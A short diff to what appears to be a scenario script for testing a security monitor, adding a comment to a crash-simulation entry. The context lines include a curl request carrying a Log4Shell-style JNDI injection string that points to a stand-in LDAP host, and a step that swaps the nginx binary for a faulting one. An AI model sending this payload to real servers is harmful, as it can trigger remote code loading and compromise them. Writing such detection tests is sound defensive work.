@@ -33,6 +33,7 @@ login right ann; end_log
 #setup mkdir -p /var/lib/nginx; printf 'events {}\nhttp { access_log /var/log/nginx/access.log; server { listen 80; } }\n' > /srv/nginx.conf
 nginx -c /srv/nginx.conf; curl -s -o /tmp/page -A '${jndi:ldap://203.0.113.9/x}' http://10.9.8.7/; nginx -c /srv/nginx.conf -s quit
 ## Server or set-user-id program crashes again and again
+#also Service crashes several times
 cp /opt/lab/fault /usr/sbin/nginx; nginx forks 20
 ## Shell started by a browser or messenger
 #setup shells /usr/lib/firefox/firefox
